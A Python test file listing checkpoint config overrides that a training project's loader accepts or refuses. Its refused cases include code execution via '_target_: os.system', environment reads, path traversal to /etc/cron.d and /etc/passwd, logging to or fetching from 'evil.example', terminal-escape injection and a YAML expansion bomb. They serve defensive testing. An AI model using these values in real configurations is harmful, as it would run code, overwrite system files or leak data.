"""Cases of overrides that a checkpoint brings: what a stranger could have a run do by them."""

from __future__ import annotations

from functools import partial
from typing import TYPE_CHECKING

import made_weights as made
from cases_files import saving

if TYPE_CHECKING:
    from pathlib import Path

    from cases_files import Row

ASKS = r"x\.ckpt asks for .* if you trust it$"

_HARMLESS = (
    "experiment=demo",
    "seed=3",
    "model.lr=1e-4",
    "model.optimizer.betas=[0.5,0.9]",
    "data.root=/data/monet",
    "data.root='~/my photos'",
    "data.a=../photos",
    "init_from=/runs/a=1/best.ckpt",
    "teacher=/runs/a=1/best.ckpt",
    "features.weights=/models/inception.pth",
    "paths.cache=/scratch/cache",
    "data.cache_dir=/scratch/cache",
    "data.cache=disk",
    "~logger",
    "~callbacks.best",
    "callbacks.best.top_k=5",
    "++data.names={a: photo, b: van gogh}",
    "objectives=[val/mifid,val/swd]",
    "trainer.max_time=00:01:00:00",
    "name=a/b",
)
_HARMFUL = {
    "code": "+data.augment.x._target_=os.abort",
    "code in braces": "+data.augment.x={_target_: os.abort}",
    "the environment": "name=${oc.env:HOME}",
    "the environment, escaped": r"name=$\{oc.env:HOME\}",
    "Hydra's folder": "hydra.run.dir=/tmp",
    "Hydra's launcher": "hydra/launcher=joblib",
    "a flag": "--config-dir=/tmp",
    "configs from elsewhere": "+model/../../downloads=evil",
    "the run's folder": "paths.run=.",
    "the run's folder, added": "++paths.run=docs",
    "the checkpoints' folder": "paths.checkpoints=/etc",
    "all paths": "paths={run: docs, checkpoints: docs, cache: x}",
    "images.zip anywhere": "+callbacks.submission.path=train.py",
    "images.zip anywhere, in braces": "callbacks.submission={path: /etc/passwd}",
    "images.zip anywhere, in spaced braces": "callbacks.submission={ path : x }",
    "a table anywhere": "callbacks.best.table=README.md",
    "a folder of the best": "callbacks.best.folder=docs",
    "a last checkpoint anywhere": "callbacks.save_last.path=thesis.docx",
    "a stop's checkpoint anywhere": "callbacks.graceful_stop.path=thesis.docx",
    "samples anywhere": "callbacks.log_images.folder=photos",
    "a log anywhere": "logger.csv.folder=docs",
    "TensorBoard's files anywhere": "logger.tensorboard.save_dir=/tmp",
    "TensorBoard's name": "logger.tensorboard.name=../../x",
    "a server to send to": "+logger.wandb.base_url=https://evil.example",
    "a teacher to fetch": "teacher=https://evil.example/x.safetensors#sha256=0",
    "an address": "+logger.wandb.notes=https://evil.example",
    "Lightning's folder": "+trainer.default_root_dir=/etc",
    "a name that goes up": "name=../../home",
    "a name at the root": "name=/etc/cron.d",
    "a quoted name at the root": "name='/etc/cron.d'",
    "a name at home": "name=~/bin",
    "a name of a drive": "name=C:\\Windows",
    "a cache that goes up": "paths.cache=../../../etc",
    "a list that goes up": "tags=[a,../x]",
    "a function that goes up": "name=str(../x)",
    "a line break": "name=x\nerror: no",
    "a terminal's commands": "name=x\x1b[2K",
    "10,000 letters": f"name={'x' * 10_000}",
    "10,000 brackets": f"tags={'[' * 10_000}",
    "20 braces": f"tags={'{a: ' * 20}1{'}' * 20}",
    "10,000 quotes": f"name={chr(39) * 10_000}",
    "only a key": "name",
    "nothing": "",
    "surrogates": "name=\ud800",
    "a byte order's mark": "\ufeffname=x",
}
_FILES = {
    "sets values": ("name: found\nmodel: {lr: 0.1}\n", "read", ""),
    "runs code": ("model: {_target_: os.system}", "refused", "does more than set values"),
    "asks for the environment": ("name: ${oc.env:HOME}", "refused", "does more than set values"),
    "writes elsewhere": ("callbacks: {submission: {path: /etc/passwd}}", "refused", "does more than set values"),
    "writes here": ("paths: {run: docs}", "refused", "does more than set values"),
    "changes Hydra": ("defaults: [override /hydra/launcher: joblib]", "refused", "does more than set values"),
    "grows by references": ("a: &a [x, x]\nb: [*a, *a]\n", "refused", "does more than set values"),
    "is a list": ("- 1\n", "refused", "does more than set values"),
    "is no YAML": ("a: [1", "refused", "is not YAML"),
    "is nested 5,000 levels deep": ("a: " + "[" * 5000, "refused", "is not YAML"),
    "is 2 MB long": ("a: b\n" * 400_000, "refused", "longer than an experiment"),
}


def _beside(text: str, folder: Path) -> Path:
    (folder / "best.yaml").write_text(text)
    return made.saved(made.checkpoint(f"experiment={folder / 'best.yaml'}"), folder / "x.ckpt")


def _latin(folder: Path) -> Path:
    (folder / "best.yaml").write_bytes(b"name: caf\xe9\n")
    return made.saved(made.checkpoint(f"experiment={folder / 'best.yaml'}"), folder / "x.ckpt")


TABLE: list[Row] = [
    *((override, saving(partial(made.checkpoint, override)), "read", "") for override in _HARMLESS),
    *(
        (what, saving(partial(made.checkpoint, "seed=3", override)), "refused", ASKS)
        for what, override in _HARMFUL.items()
    ),
    *(
        (f"an experiment's file that {what}", partial(_beside, text), result, says)
        for what, (text, result, says) in _FILES.items()
    ),
    ("an experiment's file that is no text", _latin, "refused", "can't be read"),
    (
        "an experiment's file that isn't there",
        saving(partial(made.checkpoint, "experiment=nowhere.yaml")),
        "refused",
        "is not a file",
    ),
    (
        "an experiment's file that is a device",
        saving(partial(made.checkpoint, "experiment=/dev/zero.yaml")),
        "refused",
        "is not a file",
    ),
    (
        "1,000 overrides",
        saving(partial(made.checkpoint, *["seed=3"] * 1000)),
        "refused",
        "is not a checkpoint of this project",
    ),
]
